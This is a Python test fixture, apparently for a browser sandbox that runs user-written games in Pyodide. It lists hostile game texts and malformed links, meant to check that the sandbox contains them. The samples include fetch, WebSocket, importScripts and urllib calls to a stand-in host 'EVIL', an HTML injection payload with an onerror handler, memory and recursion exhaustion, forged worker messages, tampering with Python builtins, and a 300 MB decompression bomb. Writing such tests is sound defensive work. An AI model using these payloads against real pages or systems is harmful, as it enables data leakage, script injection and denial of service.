"""Games that somebody wrote to do harm, as text that Python runs in a page, and links that hold none. EVIL
stands for the address of a host that must hear nothing."""

import base64
import zlib
from collections.abc import Mapping
from typing import NamedTuple

STOPPED = "Python has stopped"
LATE = "did not open within 20 seconds"
NO_GAME = "This link holds no game"


class HostileGame(NamedTuple):
    """`words`: a part of what the page says of it; "": it is shown as any other, and does nothing more."""

    does: str
    text: str
    words: str = ""


# ── Text, before that of facts.py ────────────────────────────────────────────
_SENT = (
    "from pyodide.ffi import to_js\nimport js\n"
    "said = lambda **told: to_js(told, dict_converter=js.Object.fromEntries)\n"
)
TEXTS: Mapping[str, HostileGame] = {
    "fetch": HostileGame(
        "asks a host by all ways that a worker has",
        "import js\nfor way in ('fetch(\"EVIL/1\")', 'new WebSocket(\"EVIL/2\")', 'importScripts(\"EVIL/3\")', "
        "'new EventSource(\"EVIL/4\")', 'new Worker(\"EVIL/5\")', 'import(\"EVIL/6\")', 'indexedDB.open(\"x\")', "
        "'localStorage.x = 1', 'new BroadcastChannel(\"rookery\").postMessage(1)'):\n"
        "    js.eval('try { Promise.resolve(' + way + ').catch(() => 0) } catch {}')",
    ),
    "packages": HostileGame(
        "loads a package of another host",
        "import pyodide_js\npyodide_js.loadPackage('EVIL/p-1.0-py3-none-any.whl')",
    ),
    "sockets": HostileGame(
        "uses the sockets of Python",
        "import urllib.request\ntry:\n    urllib.request.urlopen('EVIL/u', timeout=2)\nexcept Exception:\n    pass",
    ),
    "loop": HostileGame("never ends", "while True: pass", LATE),
    "depth": HostileGame(
        "calls itself until the stack is full",
        "import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1) + 1\nf(0)",
        "cannot be opened",
    ),
    "memory": HostileGame("takes all memory", "x = []\nwhile True: x.append(bytearray(1 << 27))", "MemoryError"),
    "end": HostileGame("ends Python", "import os\nos.abort()", "Python failed"),
    "silence": HostileGame("closes the worker", "import js\njs.close()", LATE),
    "no answer": HostileGame(
        "answers in the place of Python, with what is no answer",
        _SENT + "for n in range(60): js.postMessage(said(kind='answer', id=n, text='{'))",
        "answered in the place of Python",
    ),
    "a forged card": HostileGame(
        "answers with a game that has no players",
        _SENT + "import json\n"
        "told = json.dumps({'failure': None, 'card': {'slug': 'another', 'players': 5}, 'name': '../x'})\n"
        "for n in range(60): js.postMessage(said(kind='answer', id=n, text=told))",
        "does not say who can play it",
    ),
    "flood": HostileGame(
        "says little, without end", _SENT + "m = said(kind='x')\nwhile True: js.postMessage(m)", STOPPED
    ),
    "a flood of much": HostileGame(
        "says much, without end",
        _SENT + "m = said(kind='answer', id=-1, text='x' * 7_000_000)\nwhile True: js.postMessage(m)",
        STOPPED,
    ),
    "lies": HostileGame(
        "changes what Python itself means by words of the laws",
        "import builtins\nbuiltins.all = lambda given: True\nbuiltins.any = lambda given: False",
    ),
    "markup": HostileGame(
        "has a name that is markup, as do its seats", "COLOURS = ('<img src=EVIL/7 onerror=hit=1>', '<b>\\u202eb')"
    ),
}


def compressed(text: bytes) -> str:
    """The end of a link (web/src/sandbox/made_links.ts)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.urlsafe_b64encode(packer.compress(text) + packer.flush()).decode().rstrip("=")


# ── Links that hold no game ──────────────────────────────────────────────────
LINKS: Mapping[str, HostileGame] = {
    "too long": HostileGame("has 700,000 letters", "A" * 700_000, NO_GAME),
    "nonsense": HostileGame("is no compressed text", "B" * 599_999, NO_GAME),
    "cut off": HostileGame("is cut off", "abcde", NO_GAME),
    "a bomb": HostileGame("unpacks to 300 MB", compressed(bytes(300_000_000)), NO_GAME),
    "very deep": HostileGame("holds lists in lists", compressed(b"[" * 3_900_000), NO_GAME),
}
